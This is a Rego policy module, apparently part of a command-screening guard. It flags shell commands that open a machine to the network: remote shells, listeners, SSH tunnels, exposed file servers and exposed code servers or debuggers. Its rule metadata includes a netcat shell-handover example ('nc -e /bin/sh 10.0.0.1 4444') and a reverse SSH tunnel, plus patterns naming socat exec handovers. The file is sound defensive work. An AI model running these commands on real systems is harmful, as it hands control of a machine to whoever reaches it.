# METADATA
# title: This machine open to others
# description: |
#   Shells, ports, tunnels and servers by which somebody else reaches this
#   machine or what it can reach.
package guard.rules.expose

import data.guard.place
import data.guard.stage

# METADATA
# title: Shell for somebody else
# description: Connects a shell with the network, so that whoever is at the other end can type.
# custom:
#   id: net.remote_shell
#   remedy: let people come in by ssh, which asks who they are
#   fires: nc -e /bin/sh 10.0.0.1 4444
#   quiet: nc -z 10.0.0.1 4444
hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_hands_over(s)
	msg := sprintf("gives a program to the network: %s", [stage.line(s)])
}

# METADATA
# title: Listens on the network
# description: Anything that can reach the port can talk to it.
# custom:
#   id: net.listen
#   remedy: bind a local server to 127.0.0.1
#   fires: nc -l -p 4444
#   quiet: nc -zv localhost 4444
hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_listens(s)
	not _only_here(s)
	msg := sprintf("listens on the network: %s", [stage.line(s)])
}

# METADATA
# title: Tunnel
# description: Makes a port of this machine reachable from elsewhere.
# custom:
#   id: net.tunnel
#   remedy: ask a person to open it
#   fires: 'ssh -R 2222:localhost:22 web'
#   quiet: ssh -V
hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_tunnels(s)
	msg := sprintf("makes this machine reachable from elsewhere: %s", [stage.line(s)])
}

# METADATA
# title: Serves files to the network
# description: |
#   A file server shows its folder to whoever reaches the port: on all
#   addresses, or a folder that is not the project's.
# custom:
#   id: net.serve
#   remedy: bind it to 127.0.0.1 and serve a build folder
#   fires: python3 -m http.server 8000 --bind 0.0.0.0
#   quiet: python3 -m http.server 8000 --bind 127.0.0.1
hit contains {"id": "net.serve", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_serves_files(s)
	_exposes(s)
	msg := sprintf("serves files to the network: %s", [stage.line(s)])
}

# METADATA
# title: Lets the network run code
# description: |
#   Notebooks, editors, terminals and debuggers run what they are told. On all
#   addresses, whoever reaches the port tells them.
# custom:
#   id: net.code_server
#   remedy: bind it to 127.0.0.1
#   fires: jupyter lab --ip=0.0.0.0 --no-browser
#   quiet: jupyter lab --no-browser
hit contains {"id": "net.code_server", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_runs_code(s)
	not s.remote
	not stage.help(s)
	msg := sprintf("lets the network run code: %s", [stage.line(s)])
}

_hands_over(s) if {
	some flag in s.flags
	flag in {"e", "c", "exec", "sh-exec", "lua-exec"}
	s.name != "socat"
}

_hands_over(s) if {
	s.name == "socat"
	some word in s.args
	strings.any_prefix_match(lower(word), ["exec:", "system:", "shell:"])
}

_only_here(s) if {
	some word in s.operands
	word in {"localhost", "127.0.0.1", "::1"}
}

_listens(s) if {
	some flag in s.flags
	flag in {"l", "listen"}
}

_listens(s) if {
	s.name == "socat"
	some word in s.args
	contains(lower(word), "-listen:")
}

_tunnels(s) if {
	data.guard.rules.expose.tunnels[s.name] == true
	not stage.help(s)
	not _asks_only(s)
}

_asks_only(s) if s.operands[0] in {"version", "login", "list", "help", "update"}

_tunnels(s) if {
	verbs := data.guard.rules.expose.tunnel_verbs[s.name]
	s.operands[0] in verbs
	not stage.help(s)
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some flag in s.flags
	flag in {"R", "D", "w"}
}

# a port of another host, for whoever reaches this machine
_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some o in s.options
	o.name == "L"
	strings.any_prefix_match(o.value, _everywhere)
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	"L" in s.flags
	"g" in s.flags
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some o in s.options
	strings.any_prefix_match(replace(lower(o.value), "=", " "), ["remoteforward ", "dynamicforward ", "tunnel "])
}

_serves_files(s) if {
	startswith(s.name, "python")
	some word in s.args
	word in {"http.server", "SimpleHTTPServer", "pyftpdlib", "uploadserver", "-mhttp.server"}
}

_serves_files(s) if s.name in {"http-server", "serve", "live-server", "static-server", "miniserve", "darkhttpd", "webfsd", "dufs"}

_serves_files(s) if {
	s.name in {"php", "ruby", "busybox", "caddy", "rclone"}
	some word in s.args
	word in {"-S", "httpd", "-run", "file-server", "serve"}
}

_exposes(s) if {
	some word in s.args
	some part in split(replace(word, "//", "="), "=") # --host=0.0.0.0, tcp://0.0.0.0:80
	strings.any_prefix_match(sprintf("%s:", [part]), _everywhere)
}

# All addresses of this machine, before a port.
_everywhere := ["*:", "0.0.0.0:", "[::]:", ":::"]

_large(folder) if folder in {"/", "~", "$HOME", ".."}

_large(folder) if place.home_folder(trim_suffix(folder, "/"))

# a folder that is neither the project's nor temporary
_exposes(s) if {
	some i, word in s.args
	word in {"--directory", "-d", "-t"}
	_large(s.args[i + 1])
}

_exposes(s) if {
	s.name in {"http-server", "serve", "live-server", "static-server", "miniserve", "darkhttpd", "dufs"}
	_large(s.operands[0])
}

_exposes(s) if {
	s.cwd in {"/", input.session.home}
	s.cwd != ""
}

_runs_code(s) if {
	data.guard.rules.expose.code_servers[s.name] == "asked"
	_exposes(s)
}

# of these, on all addresses without being asked
_runs_code(s) if {
	data.guard.rules.expose.code_servers[s.name] == "open"
	count(s.args) > 0
	not _local_only(s)
}

# node --inspect=0.0.0.0:9229, python -m debugpy --listen 0.0.0.0:5678
_runs_code(s) if {
	data.guard.tables.interpreters[s.name]
	some word in s.args
	split(word, "=")[0] in {"--inspect", "--inspect-brk", "debugpy", "--listen"}
	_exposes(s)
}

_local_only(s) if {
	some word in s.args
	some part in split(word, "=")
	strings.any_prefix_match(sprintf("%s:", [part]), ["127.0.0.1:", "localhost:", "lo:", "::1:"])
}

_local_only(s) if "localhost" in s.flags
